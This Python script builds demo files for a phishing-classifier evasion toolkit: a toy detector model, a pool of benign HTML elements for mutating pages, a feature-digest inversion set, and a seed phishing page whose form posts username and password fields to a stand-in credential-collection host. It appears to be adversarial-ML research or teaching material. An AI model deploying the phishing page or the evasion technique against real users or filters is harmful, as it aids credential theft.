"""Write the files the CLI walkthrough in the README uses.

Creates ./workbench/ with a model, a weight-stripped twin, a black-box
addition pool, a seed phishing page, a small corpus manifest with two legit
pages, and a digest manifest for the inversion demo.
"""

import json
import os

from phishevade import hash_feature, save_model
from phishevade.classifier import ClassificationRule, Classifier
from phishevade.mutation import ElementSpec, save_pool

OUT = os.path.join(os.path.dirname(__file__), "workbench")


def rule(rule_id, feats, weight):
    return ClassificationRule(rule_id, frozenset(feats), weight)


MODEL = Classifier(bias=-0.5, rules=(
    rule("p01", {"PageTerm=signin"}, 0.9),
    rule("p02", {"PageHasPswdInputs"}, 1.1),
    rule("p03", {"PageTerm=verify", "PageTerm=account"}, 0.8),
    rule("p04", {"PageActionOtherDomainFreq"}, 1.0),
    rule("p05", {"PageSecureLinksFreq", "PageHasPswdInputs"}, 0.6),
    rule("p06", {"PageTerm=urgent"}, 1.2),
    rule("p07", {"PageHasForms"}, 0.4),
    rule("p08", {"PageNumScriptTags>1"}, 0.3),
    rule("p09", {"PageHasRadioInputs"}, 0.6),
    rule("p10", {"PageNumScriptTags>6"}, 0.5),
    rule("n01", {"PageTerm=privacy"}, -0.8),
    rule("n02", {"PageTerm=contact", "PageTerm=help"}, -0.6),
    rule("n03", {"PageHasCheckInputs"}, -0.5),
    rule("n04", {"PageTerm=contact"}, -0.2),
))

SEED_PAGE = """<html>
<head><title>Account Services</title></head>
<body>
<p>urgent signin required to verify your account</p>
<form action="http://collect.credsink.invalid/grab">
<input type="text" name="user">
<input type="password" name="pass">
</form>
<a href="https://mail.example.com/inbox">mail</a>
<script>a();</script><script>b();</script>
</body>
</html>
"""

LEGIT_PAGE = """<html>
<head><title>Community Garden</title></head>
<body>
<p>Our privacy policy and contact details are below</p>
<p>help copyright volunteers welcome</p>
<form action="https://garden.example.org/join"><input type="checkbox"></form>
<img src="https://pics.example.net/bed.jpg">
</body>
</html>
"""

POOL = [
    ElementSpec("div", (), "privacy"),
    ElementSpec("div", (), "contact"),
    ElementSpec("div", (), "help"),
    ElementSpec("input", (("type", "checkbox"),)),
    ElementSpec("p", (), "volunteers welcome"),
    ElementSpec("img", (("src", "https://pics.example.net/bed.jpg"),)),
]


def main():
    os.makedirs(OUT, exist_ok=True)
    save_model(MODEL, f"{OUT}/model.json")
    save_model(MODEL, f"{OUT}/model.rules-only.json", strip_weights=True)
    save_pool(POOL, f"{OUT}/pool.jsonl")
    with open(f"{OUT}/seed.html", "w", encoding="utf-8") as fh:
        fh.write(SEED_PAGE)
    with open(f"{OUT}/legit.html", "w", encoding="utf-8") as fh:
        fh.write(LEGIT_PAGE)
    with open(f"{OUT}/corpus.jsonl", "w", encoding="utf-8") as fh:
        fh.write(json.dumps({"url": "http://account-services.badhost.test/login",
                             "path": "seed.html", "label": "phish"}) + "\n")
        fh.write(json.dumps({"url": "https://garden.example.org/",
                             "path": "legit.html", "label": "legit"}) + "\n")
    digests = sorted(hash_feature(f) for f in [
        "PageTerm=signin", "PageTerm=privacy", "PageHasPswdInputs",
        "PageTerm=verify", "PageTerm=not-in-any-page"])
    with open(f"{OUT}/digests.txt", "w", encoding="utf-8") as fh:
        fh.write("\n".join(digests) + "\n")
    print(f"wrote workbench files to {OUT}/")
    for name in sorted(os.listdir(OUT)):
        print(f"  {name}")


if __name__ == "__main__":
    main()
